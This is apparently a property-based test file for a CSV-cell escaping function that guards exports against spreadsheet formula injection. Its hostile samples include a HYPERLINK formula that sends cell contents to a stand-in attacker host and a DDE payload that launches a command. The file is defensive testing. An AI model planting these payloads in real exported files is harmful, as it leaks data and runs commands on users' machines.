import fc from 'fast-check'
import { expect, it } from 'vitest'
import { csvCell } from '../../../src/domain/words/csv-cell.ts'
import { readCsv } from '../../api/report/read-csv.ts'

/** What spreadsheets run: OWASP, CSV injection. */
const RUNS = /^\s*[=+\-@\t\r＝＋－＠]/

/** Texts that a name, an image or a metric may be. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.stringMatching(/^[=+\-@;,|"'\t\r\n ＝＋－＠a-z()!]{0,12}$/),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example?"&A1,"ok")',
    '+1-1',
    '@SUM(A1)',
    ' =1',
    'a";=cmd|"/c calc"!A1',
    '\t=1',
    'x;=1',
    'x, @y',
    'x\n=1',
    'x;"=1',
  ),
)

it('a cell is what it was given, but for an apostrophe before what a spreadsheet would run', () => {
  fc.assert(
    fc.property(hostile, (value) => {
      const [row = []] = readCsv(`${csvCell(value)}\r\n`)
      expect(row).toHaveLength(1)
      expect(row[0]?.replaceAll("'", '')).toBe(value.replaceAll("'", ''))
    }),
  )
})

it('no cell begins as a formula, whatever character a spreadsheet takes for its end', () => {
  fc.assert(
    fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (values) => {
      const line = `${values.map(csvCell).join(',')}\r\n`
      for (const separator of [',', ';', '\t', '|']) {
        const cells = readCsv(line, separator).flat()
        // Under its own separator each cell; under another's, whatever it makes of the line.
        for (const cell of cells) expect(cell).not.toMatch(RUNS)
      }
    }),
  )
})

it('what is no formula stays as it is', () => {
  expect(csvCell('web 0.91, wanted result[0] >= 0.95 (3 of 5 failed, failureLimit 2)')).toBe(
    '"web 0.91, wanted result[0] >= 0.95 (3 of 5 failed, failureLimit 2)"',
  )
})

it.each([
  ['x\n=1', `"x\n'=1"`],
  ['x\r\n @A1', `"x\r\n '@A1"`],
  ['x;"=1', `"x;""'=1"`],
])('after a line break or a quote, which another locale may not take for a part of the cell, %j is written %j', (value, cell) => {
  expect(csvCell(value)).toBe(cell)
})
